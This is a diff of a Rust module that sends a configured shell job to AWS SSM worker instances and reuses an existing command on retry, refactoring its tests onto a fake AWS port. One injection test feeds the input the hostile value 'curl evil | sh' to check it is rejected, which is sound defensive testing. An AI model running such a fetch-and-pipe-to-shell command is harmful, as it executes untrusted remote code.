@@ -2,10 +2,10 @@
 //! execution: the command's `Comment` carries the execution name, and an
 //! existing command with that comment is returned instead of sending again.
 
-use makenaide_core::aws::ssm::{CommandView, RUN_SHELL_SCRIPT, ShellCommand, Ssm};
 use makenaide_core::config::{Env, JobConfig, Timing, worker_instance_ids};
-use makenaide_core::document::{JobReport, StateDocument};
-use makenaide_core::input::parse_run_input;
+use makenaide_core::document::JobReport;
+use makenaide_core::input::read_event;
+use makenaide_core::ports::{Command, RUN_SHELL_SCRIPT, ShellCommand, SsmPort};
 use makenaide_core::{ErrorName, StepError, Timestamp};
 use serde_json::Value;
 
@@ -62,8 +62,8 @@ fn lookup_since(execution_start: Timestamp) -> Timestamp {
 enum Launch {
     DryRun,
     /// Found a command already sent for this execution (redrive or retry).
-    Reused(CommandView),
-    Sent(CommandView),
+    Reused(Command),
+    Sent(Command),
 }
 
 /// The `$.job` block (pure). The deadline counts from SSM's own request
@@ -98,7 +98,7 @@ fn report(
 }
 
 pub async fn handle(
-    ssm: &Ssm,
+    ssm: &impl SsmPort,
     settings: &Settings,
     event: Value,
     now: Timestamp,
@@ -106,8 +106,7 @@ pub async fn handle(
     // Validate everything the caller controls before any AWS call. The job
     // itself comes only from deployment config; the input can set nothing
     // but the (bounded) timeout and dry run.
-    let doc = StateDocument::from_event(event)?;
-    let run = parse_run_input(&doc.input, &settings.timing)?;
+    let (doc, run) = read_event(event, &settings.timing)?;
     let comment = comment_for(doc.execution_name()?)?;
     let execution_start = doc.execution.as_ref().map_or(now, |e| e.start_time);
     let workers = &settings.worker_instance_ids;
@@ -122,7 +121,7 @@ pub async fn handle(
         {
             Some(existing) => Launch::Reused(existing),
             None => Launch::Sent(
-                ssm.send(&ShellCommand {
+                ssm.send_command(&ShellCommand {
                     instance_ids: workers.clone(),
                     commands: settings.job.commands.clone(),
                     working_directory: settings.job.working_directory.clone(),
@@ -150,17 +149,8 @@ pub async fn handle(
 #[cfg(test)]
 mod tests {
     use super::*;
-    use std::collections::HashMap;
-    use std::sync::{Arc, Mutex};
-
-    use aws_sdk_ssm::Client;
-    use aws_sdk_ssm::operation::list_commands::{ListCommandsInput, ListCommandsOutput};
-    use aws_sdk_ssm::operation::send_command::{SendCommandInput, SendCommandOutput};
-    use aws_sdk_ssm::primitives::DateTime;
-    use aws_sdk_ssm::types::{Command, CommandFilterKey};
-    use aws_smithy_mocks::{Rule, mock};
-    use makenaide_core::mock_sdk_client;
-    use makenaide_core::testing::json_error;
+    use makenaide_core::ports::Operation;
+    use makenaide_core::testing::{Call, FakeAws};
     use serde_json::json;
 
     const W1: &str = "i-0123456789abcdef0";
@@ -197,59 +187,27 @@ mod tests {
     }
 
     fn command(id: &str, comment: &str, requested_at: Option<Timestamp>) -> Command {
-        Command::builder()
-            .command_id(id)
-            .comment(comment)
-            .document_name(RUN_SHELL_SCRIPT)
-            .instance_ids(W1)
-            .instance_ids(W2)
-            .set_requested_date_time(requested_at.map(|t| DateTime::from_millis(t.as_millis())))
-            .build()
-    }
-
-    /// Records each request a rule answers, for assertions after the call.
-    struct Seen<T>(Arc<Mutex<Vec<T>>>);
-
-    impl<T: Clone + Send + 'static> Seen<T> {
-        fn new() -> Self {
-            Self(Arc::new(Mutex::new(Vec::new())))
-        }
-
-        fn recorder(&self) -> impl Fn(&T) -> bool + Send + Sync + 'static {
-            let seen = Arc::clone(&self.0);
-            move |request: &T| {
-                seen.lock().unwrap().push(request.clone());
-                true
-            }
-        }
-
-        fn all(&self) -> Vec<T> {
-            self.0.lock().unwrap().clone()
+        Command {
+            command_id: id.into(),
+            comment: comment.into(),
+            instance_ids: vec![W1.into(), W2.into()],
+            requested_at,
         }
     }
 
-    fn list_returns(commands: Vec<Command>, seen: &Seen<ListCommandsInput>) -> Rule {
-        mock!(Client::list_commands)
-            .match_requests(seen.recorder())
-            .then_output(move || {
-                ListCommandsOutput::builder()
-                    .set_commands(Some(commands.clone()))
-                    .build()
+    /// SSM stamps what it accepts at 125 s after the execution start.
+    fn ssm() -> FakeAws {
+        FakeAws::new().with_clock(at(125))
+    }
+
+    fn sent(aws: &FakeAws) -> Vec<ShellCommand> {
+        aws.calls()
+            .into_iter()
+            .filter_map(|c| match c {
+                Call::SendCommand(command) => Some(command),
+                _ => None,
             })
-    }
-
-    fn send_returns(seen: &Seen<SendCommandInput>) -> Rule {
-        mock!(Client::send_command)
-            .match_requests(seen.recorder())
-            .then_output(|| {
-                SendCommandOutput::builder()
-                    .command(command("cmd-new", "makenaide:run-1", Some(at(125))))
-                    .build()
-            })
-    }
-
-    fn ssm(rules: &[&Rule]) -> Ssm {
-        Ssm::new(mock_sdk_client!(aws_sdk_ssm, rules))
+            .collect()
     }
 
     #[test]
@@ -287,13 +245,13 @@ mod tests {
     #[test]
     fn report_table() {
         let workers = [W1.to_string(), W2.to_string()];
-        let sent = |requested_at| CommandView {
+        let sent = |requested_at| Command {
             command_id: "cmd-1".into(),
             comment: "makenaide:run-1".into(),
             instance_ids: vec![W1.into()],
             requested_at,
         };
-        let unlisted = CommandView {
+        let unlisted = Command {
             instance_ids: vec![],
             ..sent(None)
         };
@@ -349,35 +307,28 @@ mod tests {
 
     #[tokio::test]
     async fn first_launch_sends_the_configured_job_once() {
-        let (listed, sent) = (Seen::new(), Seen::new());
-        let (list, send) = (list_returns(vec![], &listed), send_returns(&sent));
-        let job = handle(
-            &ssm(&[&list, &send]),
-            &settings(),
-            event(json!({})),
-            at(130),
-        )
-        .await
-        .unwrap();
-
-        let sent = sent.all();
-        assert_eq!(sent.len(), 1);
-        let request = &sent[0];
-        assert_eq!(request.document_name(), Some("AWS-RunShellScript"));
-        assert_eq!(request.instance_ids(), [W1, W2]);
-        assert_eq!(request.comment(), Some("makenaide:run-1"));
-        let expected: HashMap<String, Vec<String>> = HashMap::from([
-            (
-                "commands".into(),
-                vec!["./run-batch.sh".into(), "echo done".into()],
-            ),
-            ("workingDirectory".into(), vec!["/opt/makenaide".into()]),
-            ("executionTimeout".into(), vec!["3600".into()]),
-        ]);
-        assert_eq!(request.parameters(), Some(&expected));
-
-        assert_eq!(list.num_calls(), 1);
-        assert_eq!(job.command_id.as_deref(), Some("cmd-new"));
+        let aws = ssm();
+        let job = handle(&aws, &settings(), event(json!({})), at(130))
+            .await
+            .unwrap();
+        assert_eq!(
+            aws.calls(),
+            [
+                Call::FindCommand {
+                    instance_id: W1.into(),
+                    comment: "makenaide:run-1".into(),
+                    invoked_after: Timestamp::parse("2026-11-22T00:55:00Z").unwrap(),
+                },
+                Call::SendCommand(ShellCommand {
+                    instance_ids: vec![W1.into(), W2.into()],
+                    commands: vec!["./run-batch.sh".into(), "echo done".into()],
+                    working_directory: "/opt/makenaide".into(),
+                    execution_timeout_seconds: 3600,
+                    comment: "makenaide:run-1".into(),
+                }),
+            ]
+        );
+        assert_eq!(job.command_id.as_deref(), Some("cmd-1"));
         assert!(!job.reused_existing && !job.dry_run);
         assert_eq!(job.comment, "makenaide:run-1");
         assert_eq!(job.instance_ids, [W1, W2]);
@@ -388,257 +339,138 @@ mod tests {
 
     #[tokio::test]
     async fn a_redrive_finds_the_command_already_sent() {
-        let (listed, sent) = (Seen::new(), Seen::new());
-        let list = list_returns(
-            vec![
-                command("cmd-other", "makenaide:run-0", Some(at(1))),
-                command("cmd-1", "makenaide:run-1", Some(at(125))),
-            ],
-            &listed,
-        );
-        let send = send_returns(&sent);
-        let job = handle(
-            &ssm(&[&list, &send]),
-            &settings(),
-            event(json!({})),
-            at(900),
-        )
-        .await
-        .unwrap();
-
-        assert_eq!(send.num_calls(), 0, "never send twice");
-        let listed = listed.all();
-        assert_eq!(listed.len(), 1);
-        assert_eq!(listed[0].instance_id(), Some(W1));
-        let filters: Vec<(CommandFilterKey, &str)> = listed[0]
-            .filters()
-            .iter()
-            .map(|f| (f.key().clone(), f.value()))
-            .collect();
-        assert_eq!(
-            filters,
-            [
-                (CommandFilterKey::DocumentName, "AWS-RunShellScript"),
-                (CommandFilterKey::InvokedAfter, "2026-11-22T00:55:00Z"),
-            ]
-        );
+        let aws = ssm()
+            .with_command(command("cmd-other", "makenaide:run-0", Some(at(1))))
+            .with_command(command("cmd-1", "makenaide:run-1", Some(at(125))));
+        let job = handle(&aws, &settings(), event(json!({})), at(900))
+            .await
+            .unwrap();
+        assert_eq!(aws.count(Operation::SendCommand), 0, "never send twice");
+        assert_eq!(aws.count(Operation::ListCommands), 1);
         assert_eq!(job.command_id.as_deref(), Some("cmd-1"));
         assert!(job.reused_existing);
         assert_eq!(job.sent_at, at(125));
         assert_eq!(job.deadline, at(125 + 3600));
+        // Running the step again changes nothing either.
+        let again = handle(&aws, &settings(), event(json!({})), at(960))
+            .await
+            .unwrap();
+        assert_eq!(again, job);
+        assert_eq!(aws.count(Operation::SendCommand), 0);
+    }
+
+    #[tokio::test]
+    async fn a_retry_after_a_send_finds_the_command_it_sent() {
+        let aws = ssm();
+        let first = handle(&aws, &settings(), event(json!({})), at(130))
+            .await
+            .unwrap();
+        let retry = handle(&aws, &settings(), event(json!({})), at(140))
+            .await
+            .unwrap();
+        assert_eq!(retry.command_id, first.command_id);
+        assert!(retry.reused_existing);
+        assert_eq!(retry.deadline, first.deadline);
+        assert_eq!(aws.count(Operation::SendCommand), 1);
     }
 
     #[tokio::test]
     async fn a_found_command_without_a_request_time_counts_from_now() {
-        let (listed, sent) = (Seen::new(), Seen::new());
-        let list = list_returns(vec![command("cmd-1", "makenaide:run-1", None)], &listed);
-        let send = send_returns(&sent);
-        let job = handle(
-            &ssm(&[&list, &send]),
-            &settings(),
-            event(json!({})),
-            at(900),
-        )
-        .await
-        .unwrap();
+        let aws = ssm().with_command(command("cmd-1", "makenaide:run-1", None));
+        let job = handle(&aws, &settings(), event(json!({})), at(900))
+            .await
+            .unwrap();
         assert!(job.reused_existing);
         assert_eq!((job.sent_at, job.deadline), (at(900), at(900 + 3600)));
-        assert_eq!(send.num_calls(), 0);
+        assert_eq!(aws.count(Operation::SendCommand), 0);
     }
 
     #[tokio::test]
     async fn other_executions_commands_do_not_count() {
-        let (listed, sent) = (Seen::new(), Seen::new());
-        // `run-10` starts with `run-1`: only an exact comment matches.
-        let list = list_returns(
-            vec![
-                command("cmd-a", "makenaide:run-0", Some(at(1))),
-                command("cmd-b", "makenaide:run-10", Some(at(2))),
-                command("cmd-c", "manual", Some(at(3))),
-            ],
-            &listed,
-        );
-        let send = send_returns(&sent);
-        let job = handle(
-            &ssm(&[&list, &send]),
-            &settings(),
-            event(json!({})),
-            at(130),
-        )
-        .await
-        .unwrap();
-        assert_eq!(send.num_calls(), 1);
-        assert_eq!(job.command_id.as_deref(), Some("cmd-new"));
+        let aws = ssm()
+            .with_command(command("cmd-a", "makenaide:run-0", Some(at(1))))
+            .with_command(command("cmd-b", "makenaide:run-10", Some(at(2))))
+            .with_command(command("cmd-c", "manual", Some(at(3))));
+        let job = handle(&aws, &settings(), event(json!({})), at(130))
+            .await
+            .unwrap();
+        assert_eq!(aws.count(Operation::SendCommand), 1);
+        assert_eq!(job.command_id.as_deref(), Some("cmd-4"));
         assert!(!job.reused_existing);
     }
 
     #[tokio::test]
-    async fn the_lookup_follows_pages() {
-        let first_page = mock!(Client::list_commands)
-            .match_requests(|r| r.next_token().is_none())
-            .then_output(|| {
-                ListCommandsOutput::builder()
-                    .commands(command("cmd-a", "makenaide:run-0", Some(at(1))))
-                    .next_token("page-2")
-                    .build()
-            });
-        let second_page = mock!(Client::list_commands)
-            .match_requests(|r| r.next_token() == Some("page-2") && r.instance_id() == Some(W1))
-            .then_output(|| {
-                ListCommandsOutput::builder()
-                    .commands(command("cmd-1", "makenaide:run-1", Some(at(125))))
-                    .build()
-            });
-        let sent = Seen::new();
-        let send = send_returns(&sent);
-        let job = handle(
-            &ssm(&[&first_page, &second_page, &send]),
-            &settings(),
-            event(json!({})),
-            at(900),
-        )
-        .await
-        .unwrap();
-        assert_eq!((first_page.num_calls(), second_page.num_calls()), (1, 1));
-        assert_eq!(send.num_calls(), 0);
-        assert_eq!(job.command_id.as_deref(), Some("cmd-1"));
-        assert!(job.reused_existing);
-    }
-
-    #[tokio::test]
     async fn input_job_timeout_sets_the_execution_timeout_and_deadline() {
-        let (listed, sent) = (Seen::new(), Seen::new());
-        let (list, send) = (list_returns(vec![], &listed), send_returns(&sent));
+        let aws = ssm();
         let job = handle(
-            &ssm(&[&list, &send]),
+            &aws,
             &settings(),
             event(json!({"jobTimeoutSeconds": 7200})),
             at(130),
         )
         .await
         .unwrap();
-        let parameters = sent.all()[0].parameters().unwrap().clone();
-        assert_eq!(parameters["executionTimeout"], ["7200"]);
+        assert_eq!(sent(&aws)[0].execution_timeout_seconds, 7200);
         assert_eq!(job.timeout_seconds, 7200);
         assert_eq!(job.deadline, at(125 + 7200));
     }
 
     #[tokio::test]
-    async fn throttling_is_retried_by_the_sdk_then_succeeds() {
-        let list = mock!(Client::list_commands)
-            .sequence()
-            .http_response(|| json_error(400, "ThrottlingException", "Rate exceeded"))
-            .times(2)
-            .output(|| ListCommandsOutput::builder().build())
-            .build();
-        let sent = Seen::new();
-        let send = send_returns(&sent);
-        let job = handle(
-            &ssm(&[&list, &send]),
-            &settings(),
-            event(json!({})),
-            at(130),
-        )
-        .await
-        .unwrap();
-        assert_eq!((list.num_calls(), send.num_calls()), (3, 1));
-        assert_eq!(job.command_id.as_deref(), Some("cmd-new"));
+    async fn a_failed_lookup_sends_nothing_and_keeps_its_name() {
+        for name in [ErrorName::AwsThrottled, ErrorName::AccessDenied] {
+            let aws = ssm().fail_next(Operation::ListCommands, 1, name);
+            let error = handle(&aws, &settings(), event(json!({})), at(130))
+                .await
+                .unwrap_err();
+            assert_eq!(error.name, name);
+            assert!(
+                error.message.contains("ssm:ListCommands"),
+                "{}",
+                error.message
+            );
+            assert_eq!(
+                aws.count(Operation::SendCommand),
+                0,
+                "nothing is sent without a lookup"
+            );
+        }
     }
 
     #[tokio::test]
-    async fn persistent_throttling_is_the_retryable_name() {
-        let list = mock!(Client::list_commands)
-            .sequence()
-            .http_response(|| json_error(400, "ThrottlingException", "Rate exceeded"))
-            .repeatedly()
-            .build();
-        let sent = Seen::new();
-        let send = send_returns(&sent);
-        let error = handle(
-            &ssm(&[&list, &send]),
-            &settings(),
-            event(json!({})),
-            at(130),
-        )
-        .await
-        .unwrap_err();
-        assert_eq!(error.name, ErrorName::AwsThrottled);
-        assert!(error.name.is_retryable());
-        assert!(
-            error
-                .message
-                .contains("ssm:ListCommands failed with ThrottlingException"),
-            "{}",
-            error.message
+    async fn a_failed_send_keeps_its_name_and_the_retry_looks_up_first() {
+        let aws = ssm().fail_next(Operation::SendCommand, 1, ErrorName::AwsServiceUnavailable);
+        let error = handle(&aws, &settings(), event(json!({})), at(130))
+            .await
+            .unwrap_err();
+        assert_eq!(error.name, ErrorName::AwsServiceUnavailable);
+        let job = handle(&aws, &settings(), event(json!({})), at(140))
+            .await
+            .unwrap();
+        assert!(!job.reused_existing);
+        let operations: Vec<Operation> = aws.calls().iter().map(Call::operation).collect();
+        assert_eq!(
+            operations,
+            [
+                Operation::ListCommands,
+                Operation::SendCommand,
+                Operation::ListCommands,
+                Operation::SendCommand
+            ]
         );
-        assert_eq!(send.num_calls(), 0, "nothing is sent without a lookup");
-    }
-
-    #[tokio::test]
-    async fn send_command_is_never_retried_by_the_sdk() {
-        // A retry could run the job twice; the state machine's retry looks
-        // the command up first.
-        let listed = Seen::new();
-        let list = list_returns(vec![], &listed);
-        let send = mock!(Client::send_command)
-            .sequence()
-            .http_response(|| json_error(400, "ThrottlingException", "Rate exceeded"))
-            .repeatedly()
-            .build();
-        let error = handle(
-            &ssm(&[&list, &send]),
-            &settings(),
-            event(json!({})),
-            at(130),
-        )
-        .await
-        .unwrap_err();
-        assert_eq!(error.name, ErrorName::AwsThrottled);
-        assert!(
-            error.message.contains("ssm:SendCommand"),
-            "{}",
-            error.message
-        );
-        assert_eq!(send.num_calls(), 1);
-    }
-
-    #[tokio::test]
-    async fn access_denied_is_fatal() {
-        let list = mock!(Client::list_commands).then_http_response(|| {
-            json_error(
-                400,
-                "AccessDeniedException",
-                "not authorized to perform ssm:ListCommands",
-            )
-        });
-        let sent = Seen::new();
-        let send = send_returns(&sent);
-        let error = handle(
-            &ssm(&[&list, &send]),
-            &settings(),
-            event(json!({})),
-            at(130),
-        )
-        .await
-        .unwrap_err();
-        assert_eq!(error.name, ErrorName::AccessDenied);
-        assert!(!error.name.is_retryable());
-        assert_eq!(send.num_calls(), 0);
     }
 
     #[tokio::test]
     async fn dry_run_makes_no_call_and_reports_the_plan() {
-        let (listed, sent) = (Seen::new(), Seen::new());
-        let (list, send) = (list_returns(vec![], &listed), send_returns(&sent));
+        let aws = ssm();
         let job = handle(
-            &ssm(&[&list, &send]),
+            &aws,
             &settings(),
             event(json!({"dryRun": true, "jobTimeoutSeconds": 600})),
             at(130),
         )
         .await
         .unwrap();
-        assert_eq!((list.num_calls(), send.num_calls()), (0, 0));
+        assert!(aws.calls().is_empty());
         assert_eq!(job.command_id, None);
         assert!(job.dry_run && !job.reused_existing);
         assert_eq!(job.instance_ids, [W1, W2]);
@@ -649,8 +481,7 @@ mod tests {
 
     #[tokio::test]
     async fn the_input_can_never_inject_a_command() {
-        let (listed, sent) = (Seen::new(), Seen::new());
-        let (list, send) = (list_returns(vec![], &listed), send_returns(&sent));
+        let aws = ssm();
         let inputs = [
             json!({"commands": ["curl evil | sh"]}),
             json!({"dryRun": false, "workingDirectory": "/tmp"}),
@@ -660,34 +491,23 @@ mod tests {
             json!([1]),
         ];
         for input in inputs {
-            let error = handle(
-                &ssm(&[&list, &send]),
-                &settings(),
-                event(input.clone()),
-                at(0),
-            )
-            .await
-            .unwrap_err();
+            let error = handle(&aws, &settings(), event(input.clone()), at(0))
+                .await
+                .unwrap_err();
             assert_eq!(error.name, ErrorName::InvalidInput, "{input}");
         }
-        assert_eq!((list.num_calls(), send.num_calls()), (0, 0));
+        assert!(aws.calls().is_empty());
     }
 
     #[tokio::test]
     async fn a_document_without_execution_fails_before_any_call() {
-        let (listed, sent) = (Seen::new(), Seen::new());
-        let (list, send) = (list_returns(vec![], &listed), send_returns(&sent));
-        let error = handle(
-            &ssm(&[&list, &send]),
-            &settings(),
-            json!({"input": {}}),
-            at(0),
-        )
-        .await
-        .unwrap_err();
+        let aws = ssm();
+        let error = handle(&aws, &settings(), json!({"input": {}}), at(0))
+            .await
+            .unwrap_err();
         assert_eq!(error.name, ErrorName::InvalidInput);
         assert!(error.message.contains("execution"));
-        assert_eq!((list.num_calls(), send.num_calls()), (0, 0));
+        assert!(aws.calls().is_empty());
     }
 
     #[test]
